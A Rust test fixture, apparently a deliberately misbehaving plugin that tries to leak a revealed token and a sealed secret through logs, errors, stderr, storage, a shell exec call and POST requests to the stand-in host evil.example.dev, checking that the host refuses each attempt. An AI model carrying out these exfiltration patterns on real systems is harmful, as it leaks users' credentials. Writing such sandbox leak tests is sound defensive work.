//! Tries to get secrets out: one it may see, and one it may only use.

use std::io::Write;

use serde_json::{Value, json};

use crate::call::{Call, Played, failure, refused};

pub(crate) fn play(call: &Call, word: &str) -> Option<Played> {
    let Some(way) = word.strip_prefix("leaks-") else {
        return sealed(call, word.strip_prefix("sends-the-sealed-")?);
    };
    let token = token(call);
    let says = format!("the token is {token}");
    let fails = |more: Value| {
        let mut error = failure("auth", "it did not work");
        error["data"]["hint"] = more["hint"].clone();
        error["data"]["cause"] = more["cause"].clone();
        let data = error["data"].as_object_mut();
        data.into_iter().for_each(|data| data.retain(|_, value| !value.is_null()));
        Played::Answer(Err(error))
    };
    Some(match way {
        "by-log" => {
            call.tell("log", json!({"level": "warn", "message": says}));
            fails(json!({}))
        }
        "by-progress" => {
            call.tell("progress", json!({"phase": token, "done": 1, "message": says}));
            fails(json!({}))
        }
        "by-attempt" => {
            call.tell("attempt", json!({"region": token, "category": "capacity", "message": says}));
            fails(json!({}))
        }
        "by-error" => Played::Answer(Err(failure("auth", &says))),
        "by-hint" => fails(json!({"hint": says})),
        "by-cause" => fails(json!({"cause": [says]})),
        "by-a-broken-line" => {
            call.plugin.wire.raw(format!("{says}\n").as_bytes());
            Played::Silent
        }
        "by-stderr" => {
            let _ = writeln!(std::io::stderr(), "{says}");
            std::process::exit(9);
        }
        "by-resource" => {
            let resource = json!({"kind": token, "cloudId": says, "billable": true});
            let _ = call.ask("resource.record", json!({"resource": resource}));
            std::process::exit(9);
        }
        "by-kv" => refused(call.ask("kv.put", json!({"key": "k", "value": says}))),
        "by-kv-key" => refused(call.ask("kv.put", json!({"key": token, "value": "v"}))),
        "by-blob" => {
            let _ = call.ask("blob.create", json!({}));
            let _ = call.ask("blob.write", json!({"blob": "b1", "text": says}));
            std::process::exit(9);
        }
        "by-tool-argument" => refused(call.ask(
            "exec",
            json!({"tool": "sh", "args": ["-c", format!(": {says}")], "timeoutMs": 9000}),
        )),
        "by-body" => other(call, json!({"body": {"text": says}})),
        "by-header" => other(call, json!({"headers": {"x-token": token}})),
        "by-url" => other(call, json!({"url": format!("https://evil.example.dev/?{token}")})),
        "by-host-name" => other(call, json!({"url": format!("https://{token}.example.dev/")})),
        "by-unknown-channel" => {
            call.tell("output", json!({"ch": token, "off": 0, "text": "x"}));
            Played::Silent
        }
        "by-labels" | "by-lease" => Played::Go,
        _ => return None,
    })
}

/// The secret it may only use, sent where it may not go, and shown by who may have it.
fn sealed(call: &Call, way: &str) -> Option<Played> {
    let endpoint = call.plugin.text("endpoint");
    let secret = json!({"$secret": "sealed"});
    Some(match way {
        "secret-elsewhere" => {
            other(call, json!({"url": "http://localhost:9/", "auth": {"bearer": "sealed"}}))
        }
        "secret-elsewhere-in-a-body" => {
            other(call, json!({"url": "http://localhost:9/", "body": {"json": {"k": secret}}}))
        }
        "secret-to-a-tool" => refused(
            call.ask("exec", json!({"tool": "sh", "env": {"KEY": secret}, "timeoutMs": 9000})),
        ),
        "secret-to-an-echo" => {
            let asked = json!({"method": "POST", "url": format!("{endpoint}/echo"),
                "auth": {"bearer": "sealed"}, "body": {"json": {"k": secret}}});
            let echoed = call.ask("http", asked).unwrap_or_else(|error| error);
            Played::Answer(Err(failure("auth", &format!("it echoes {echoed}"))))
        }
        "secret-through-a-redirect" => {
            let url = format!("{endpoint}/to?{}", call.plugin.text("elsewhere"));
            other(call, json!({"url": url, "auth": {"bearer": "sealed"}}))
        }
        _ => return None,
    })
}

fn token(call: &Call) -> String {
    let answer = call.ask("secret.reveal", json!({"name": "token"})).unwrap_or_default();
    answer["value"].as_str().unwrap_or("(none)").to_owned()
}

/// Sends a request where it may not go.
fn other(call: &Call, more: Value) -> Played {
    let mut asked = json!({"method": "POST", "url": "https://evil.example.dev/"});
    more.as_object().into_iter().flatten().for_each(|(name, value)| asked[name] = value.clone());
    refused(call.ask("http", asked))
}

/// Puts the token into what was made.
pub(crate) fn change(call: &Call, word: &str, result: &mut Value) {
    match word {
        "leaks-by-labels" => result["lease"]["labels"]["note"] = json!(token(call)),
        "leaks-by-lease" => result["lease"]["cloudId"] = json!(token(call)),
        _ => {}
    }
}

/// Dies once the claim of such a box was written: it must not hold the token.
pub(crate) fn dies_before_its_command(call: &Call) {
    let leaked = ["leaks-by-labels", "leaks-by-lease"].contains(&call.plugin.fault().0);
    if leaked && call.at == "start" {
        std::process::exit(9);
    }
}
